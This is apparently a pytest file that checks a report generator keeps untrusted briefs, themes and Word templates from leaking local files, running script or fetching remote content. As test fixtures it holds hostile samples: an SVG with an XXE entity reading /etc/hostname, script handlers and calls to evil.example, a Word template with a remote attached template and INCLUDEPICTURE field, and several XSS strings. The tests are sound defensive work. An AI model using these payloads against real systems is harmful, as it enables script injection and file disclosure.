"""Untrusted input stays in its box: what a brief, a theme or a Word template carries never runs, fetches,
shows a local file, or makes an output grow or take time out of proportion to it.

Each test names the finding it guards: the local file a brief named (1), script and foreign content in the
HTML, Markdown and Word outputs (2), a long title or footer (3), the size of review pages (4), escaping
and ``lang`` attributes in every page (5).
"""

from __future__ import annotations

import base64
import json
import re
import time
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from pypdf import PdfReader

from reportgen import build, parse_file
from reportgen.compose import Brand, compose_pack
from reportgen.model import Brief, DroppedLine, Pack
from reportgen.parse.trace import text_digest
from reportgen.render import renderer_for
from reportgen.review import review
from reportgen.review.index import Entry, index_page
from reportgen.review.page import article_page
from reportgen.review.text import SourceText
from reportgen.themes import ThemeTexts, load_theme

ARTICLE = """Harbour Authority Reports Record Cargo Volumes

Port Esperanza, March 3, 2025 — Cargo handled by the harbour rose 12 percent in 2024, according to the \
Harbour Authority.

"We have never moved so many containers through these docks," said Lucia Ferreira, director of operations \
at the Harbour Authority.

Unemployment in the province fell to 6.5 percent last year, the Provincial Statistics Office reported.

"The new cranes paid for themselves within two seasons," said Tomas Okafor, an economist at the Coastal \
Trade Institute.
"""

EVIL = "evil.example"
CONTROLS = "\x00\x07\x1b\x7f\x85\x9b"


@pytest.fixture(scope="module")
def article(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("article") / "harbour.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def brief(article) -> Brief:
    return parse_file(article)


def _render(brief: Brief, fmt: str, theme=None, title: str = "Harbour week") -> bytes:
    theme = theme or load_theme("default")
    document = compose_pack(Pack((brief,), title, None, "2025-03-04", theme.name), "en",
                            Brand(theme.brand, theme.texts_for("en")))
    return renderer_for(fmt).render(document, theme)


def _with_strings(brief: Brief, text: str, *more: str) -> Brief:
    """``brief`` with ``text`` in every string a pack prints: title, names, roles, figures' words, notes, body."""
    experts = tuple(replace(expert, name=f"{text} {index}", role=text, organization=text, summary=text,
                            commentary=(text,)) for index, expert in enumerate(brief.experts, 1))
    statistics = tuple(replace(statistic, measure=text, subject=text, source=text, cited_by=text,
                               sentence=f"{text} {index}") for index, statistic in enumerate(brief.statistics, 1))
    return replace(brief, title=text, publication=text, question=text, experts=experts, statistics=statistics,
                   body=(text, *more), takeaways=(text,), warnings=(text,), dropped=(DroppedLine(text, "byline"),))


class _Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.tags


def _assert_boxed(page: str, languages: set[str]) -> None:
    """No script, handler, frame or outside link in ``page``; ``lang`` only from ``languages``."""
    for tag, attributes in _tags(page):
        assert tag not in ("script", "iframe", "object", "embed", "svg", "foreignobject"), tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src"):
                assert value and (value.startswith("#") or value.startswith("data:image/")
                                  or re.fullmatch(r"[a-z0-9-]+\.html", value)), (tag, value)
            if name == "lang":
                assert value in languages, (tag, value)


# -- 1. no local file is disclosed -------------------------------------------------------------

def test_review_and_renderers_never_read_a_file_a_brief_names(tmp_path, brief):
    secret = tmp_path / "private-notes.txt"
    secret.write_text("Private notes of the desk\n\nThe safe combination is PRIVATE-4711, said nobody.\n",
                      encoding="utf-8")
    planted = replace(brief, source=replace(brief.source, path=str(secret), text=None))
    brief_json = tmp_path / "planted.json"
    brief_json.write_text(json.dumps(planted.to_dict()), encoding="utf-8")

    result = review([brief_json], out=tmp_path / "review")
    assert result.pages and not result.failures
    pages = "".join(path.read_text(encoding="utf-8") for path in (tmp_path / "review").glob("*.html"))
    assert "PRIVATE-4711" not in pages and "safe combination" not in pages
    assert "review the article file itself" in pages

    built = build([brief_json], formats=["html", "md", "docx"], out=tmp_path / "out", jobs=1)
    assert not built.errors
    for output in built.outputs:
        assert b"PRIVATE-4711" not in output.path.read_bytes()


# -- 2. script and foreign content --------------------------------------------------------------

HOSTILE_LOGO = f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY planted SYSTEM "file:///etc/hostname">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="48" height="24"
     onload="alert('logo')">
  <script>alert('inline')</script>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://{EVIL}/f"/>
  </foreignObject>
  <style>@import url(http://{EVIL}/sheet.css); .mark {{ fill: #0a7 }}</style>
  <linearGradient id="wash"><stop offset="0" stop-color="#0a7"/></linearGradient>
  <rect class="mark" width="24" height="24" fill="url(#wash)" style="fill: url(http://{EVIL}/paint)"
        onclick="steal()"/>
  <use xlink:href="http://{EVIL}/symbols.svg#anchor"/>
  <image href="../outside.png" width="24" height="24"/>
  <a href="javascript:alert('link')"><text x="26" y="16">&planted;Harbour</text></a>
  <set attributeName="href" to="javascript:alert('animated')"/>
</svg>
"""


def _hostile_theme(folder: Path, body: str = "") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "logo.svg").write_text(HOSTILE_LOGO, encoding="utf-8")
    path = folder / "theme.toml"
    path.write_text('[brand]\nname = "Harbour Desk"\nlogo = "logo.svg"\n' + body, encoding="utf-8")
    return path


def test_the_html_logo_is_a_sanitized_picture_that_runs_and_fetches_nothing(tmp_path, article):
    theme = _hostile_theme(tmp_path / "theme")
    result = build([article], formats=["html"], style=theme, out=tmp_path / "out", jobs=1)
    assert not result.errors
    page = result.outputs[0].path.read_text(encoding="utf-8")
    _assert_boxed(page, {"en"})
    (logo,) = [attributes for tag, attributes in _tags(page) if tag == "img"]
    assert logo["alt"] == "Harbour Desk"
    svg = base64.b64decode(logo["src"].split(",", 1)[1]).decode("utf-8")
    for banned in ("script", "onload", "onclick", "foreignObject", "iframe", EVIL, "javascript", "outside.png",
                   "@import", "<set", "ENTITY"):
        assert banned not in svg, banned
    assert 'fill="url(#wash)"' in svg and "Harbour</text>" in svg  # the picture itself is kept


def test_a_logo_cannot_pull_a_file_beside_the_theme_into_the_pdf(tmp_path, article):
    from PIL import Image

    Image.new("RGB", (16, 16), (12, 34, 56)).save(tmp_path / "outside.png")
    theme = _hostile_theme(tmp_path / "theme")
    result = build([article], formats=["pdf"], style=theme, out=tmp_path / "out", jobs=1)
    assert not result.errors, result.errors
    assert not PdfReader(result.outputs[0].path).pages[0].images  # the cover draws no image from outside


def test_font_names_and_theme_texts_cannot_leave_the_style_sheet_or_the_page(monkeypatch, brief):
    monkeypatch.setattr("reportgen.render.html.family_name", lambda path: "Serif'}</style><script>x()</script>")
    hostile = f"<script>alert('theme')</script>{CONTROLS}"
    theme = replace(load_theme("default"), brand=f"Desk {hostile}",
                    texts={"en": ThemeTexts(brand_line=hostile, footer=hostile, disclaimer=hostile)})
    page = _render(brief, "html", theme).decode("utf-8")
    assert page.count("<style>") == 1 and page.count("</style>") == 1
    style = page.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "<" not in style and "'}" not in style
    assert 'font-family:"Serif\\000027\\00007d\\00003c' in style  # one quoted CSS string, escaped
    _assert_boxed(page, {"en"})
    assert not any(char in page for char in CONTROLS)


def test_a_theme_colour_that_is_not_a_colour_never_reaches_the_css(brief):
    theme = load_theme("default")
    theme = replace(theme, colors={**theme.colors, "accent": "red}</style><script>x()</script>"})
    with pytest.raises(ValueError, match="accent"):
        _render(brief, "html", theme)


def _reference_with_outside_links(path: Path) -> Path:
    """A Word template whose settings attach a remote template, and whose header links out and includes a
    remote picture through a field."""
    word = docx.Document()
    header = word.sections[0].header
    header.paragraphs[0].text = "House header"
    link = header.part.relate_to(f"http://{EVIL}/home", RT.HYPERLINK, is_external=True)
    namespaces = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
    header.paragraphs[0]._p.append(parse_xml(
        f'<w:hyperlink {namespaces} r:id="{link}"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'))
    header.paragraphs[0]._p.append(parse_xml(
        f'<w:fldSimple {namespaces} w:instr=\'INCLUDEPICTURE "http://{EVIL}/pixel.png" \\d\'>'
        '<w:r><w:t>picture</w:t></w:r></w:fldSimple>'))
    settings = word.part.part_related_by(RT.SETTINGS)
    attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    template = settings.relate_to(f"http://{EVIL}/house.dotm", attached, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {namespaces} r:id="{template}"/>'))
    word.part.relate_to(f"http://{EVIL}/unused", RT.HYPERLINK, is_external=True)
    word.save(path)
    return path


def test_a_reference_template_lends_its_header_but_no_link_outside_it(tmp_path, article):
    reference = _reference_with_outside_links(tmp_path / "house.docx")
    result = build([article], formats=["docx"], reference_docx=reference, out=tmp_path / "out", jobs=1)
    assert not result.errors, result.errors
    pack = result.outputs[0].path
    with zipfile.ZipFile(pack) as package:
        for name in package.namelist():
            content = package.read(name)
            assert EVIL.encode() not in content and b'TargetMode="External"' not in content, name
    word = docx.Document(str(pack))
    assert "House header" in word.sections[0].header.paragraphs[0].text  # the template's header still rules
    from reportgen.render.docx import reference_docx_warnings

    (warning,) = reference_docx_warnings(reference)
    assert str(reference) in warning and "attached template" in warning and "hyperlinks" in warning
    assert "fields" in warning
    assert warning in [line for lines in result.warnings.values() for line in lines]  # said once per build


def test_control_characters_never_reach_html_or_markdown(brief):
    hostile = _with_strings(brief, f"Cargo{CONTROLS} rose\ttoday")
    for fmt in ("html", "md"):
        output = _render(hostile, fmt, title=f"Harbour{CONTROLS} week").decode("utf-8")
        assert not any(char in output for char in CONTROLS), fmt
        assert "Cargo rose" in output and "Harbour week" in output, fmt


MARKDOWN_TRAPS = (
    "~~struck out~~ words",
    "- looks like a list item",
    "+ another list item",
    "* starred list item",
    "# Not a heading",
    "> not a quotation",
    "1986. A year, not a list",
    "1) first, not a list",
    "left | right | cells",
    "`code span` here",
    "<b>bold tag</b> &copy; &amp; entities",
    "[a link](https://example.org/x) and ![an image](pic.png)",
    "_under_ and *star* and __strong__",
    "back\\slash and a last one\\",
    "trailing spaces  ",
    "===",
    "---",
    "<http://example.org/auto> autolink",
    "visit www.example.org today",
    "mail someone@example.org now",
    "[^1] not a footnote",
)
_NEEDS_ESCAPE = set("\\`*_[]<>|~&")
_BLOCK_START = re.compile(r"[#>=+-]|\d+[.)]")


def _literal(fragment: str) -> str | None:
    """What CommonMark/GFM shows for ``fragment`` if it is literal text, else None (it holds markup)."""
    if _BLOCK_START.match(fragment) or fragment.endswith("  ") or re.search(r"www\.|(?<!\\)://|(?<!\\)@", fragment):
        return None
    shown, index = [], 0
    while index < len(fragment):
        char = fragment[index]
        entity = re.match(r"&(amp|lt|gt);", fragment[index:])
        if char == "\\" and index + 1 < len(fragment) and fragment[index + 1] in "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~":
            shown.append(fragment[index + 1])
            index += 2
        elif entity:
            shown.append({"amp": "&", "lt": "<", "gt": ">"}[entity[1]])
            index += len(entity[0])
        elif char in _NEEDS_ESCAPE:
            return None
        else:
            shown.append(char)
            index += 1
    return "".join(shown)


def test_markdown_shows_every_construct_literally_in_headings_cells_notes_and_text(brief):
    traps = [" ".join(trap.split()) for trap in MARKDOWN_TRAPS]
    hostile = _with_strings(brief, traps[0], *traps[1:])
    lines = _render(hostile, "md", title=traps[5]).decode("utf-8").splitlines()
    shown = {_literal(line) for line in lines}
    for trap in traps:  # each as a paragraph of the article
        assert trap in shown, trap
    assert _literal(lines[0][2:]) == traps[5] and lines[0].startswith("# ")  # the pack's title, a heading
    headings = {_literal(line.lstrip("#")[1:]) for line in lines if line.startswith("#")}
    assert traps[0] in headings  # the article's title
    rows = [re.split(r"(?<!\\)\|", line)[1:-1] for line in lines if line.startswith("| ")]
    cells = {_literal(cell.strip()) for row in rows for cell in row}
    assert traps[0] in cells  # a statistic's source and measure
    notes = [line.split("]: ", 1)[1] for line in lines if line.startswith("[^")]
    assert notes and all(_literal(note.split(" — ")[0]).startswith(traps[0]) for note in notes)


# -- 3. long titles and footers -----------------------------------------------------------------

def test_a_title_longer_than_word_allows_still_makes_a_word_pack(tmp_path, article):
    title = "A very long pack title for the harbour desk " * 6  # 264 characters: over Word's 255
    result = build([article], formats=["docx"], title=title, out=tmp_path / "out", jobs=1)
    assert not result.errors, result.errors
    word = docx.Document(str(result.outputs[0].path))
    assert len(word.core_properties.title) <= 255 and word.core_properties.title.endswith("…")
    assert word.core_properties.title.startswith("A very long pack title")
    header = word.sections[0].header.paragraphs[0].text
    assert len(header) < 300 and header.endswith("…")


def test_a_huge_title_and_footer_cost_the_pdf_little_time(brief):
    theme = load_theme("default")
    footer = "Harbour desk footer words " * 1200  # 31 KB
    theme = replace(theme, texts={"en": ThemeTexts(brand_line="Desk", footer=footer, disclaimer="Ours.")})
    started = time.perf_counter()
    pdf = _render(brief, "pdf", theme, title="Long pack title words " * 900)  # 20 KB
    assert time.perf_counter() - started < 10  # was over 40 s: every page measured the line letter by letter
    assert pdf.startswith(b"%PDF-")


def test_an_article_title_and_a_source_longer_than_a_page_still_lay_out(brief):
    endless = "Harbour words that go on and on " * 700  # 22 KB: taller than a page in a heading or a table row
    hostile = replace(brief, title=endless, statistics=tuple(replace(statistic, source=endless)
                                                             for statistic in brief.statistics))
    started = time.perf_counter()
    pdf = _render(hostile, "pdf")  # failed: a heading split over pages, a table row that could never fit
    assert time.perf_counter() - started < 20
    assert len(PdfReader(BytesIO(pdf)).pages) > 5


# -- 4. review pages stay a size a browser opens ------------------------------------------------

def test_a_brief_with_spans_over_many_paragraphs_makes_a_bounded_review_page(tmp_path, brief):
    text = "\n\n".join(f"Short line {number} of the harbour log." for number in range(1500))
    crossing = tuple(DroppedLine("log", "byline", (number, len(text) - number)) for number in range(250))
    planted = replace(brief, source=replace(brief.source, text=text, text_sha256=text_digest(text)),
                      question_spans=(), experts=(), statistics=(), dropped=crossing)
    brief_json = tmp_path / "crossing.json"
    brief_json.write_text(json.dumps(planted.to_dict()), encoding="utf-8")
    result = review([brief_json], out=tmp_path / "review")
    (page,) = result.pages
    size = page.stat().st_size
    assert size < 60 * brief_json.stat().st_size  # was 42 MB from a 69 KB brief
    html = page.read_text(encoding="utf-8")
    assert "Highlights stop at paragraph" in html and "Short line 1499 of the harbour log." in html


# -- 5. escaping and languages in every page ----------------------------------------------------

PAGE_TRAPS = ("<script>alert('title')</script>", '" onmouseover="alert(1)', "javascript:alert(2)",
              f"<iframe src='http://{EVIL}/x'></iframe>", f"<a href='http://{EVIL}'>x</a>")


def test_every_brief_string_is_text_in_the_html_pack_and_the_review_page(brief):
    for trap in PAGE_TRAPS:
        hostile = _with_strings(brief, trap)
        _assert_boxed(_render(hostile, "html").decode("utf-8"), {"en"})
        page = article_page(replace(hostile, language='en" onmouseover="x'),
                            SourceText(hostile.source.text, True), "en", "index.html")
        _assert_boxed(page, {"en"})
        assert trap in page.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&#x27;", "'")
    index = index_page([Entry(PAGE_TRAPS[0], "xx-Evil", "qa", "a.html", PAGE_TRAPS[1], 1, 1, 0, PAGE_TRAPS)], [],
                       "en")
    _assert_boxed(index, {"en"})
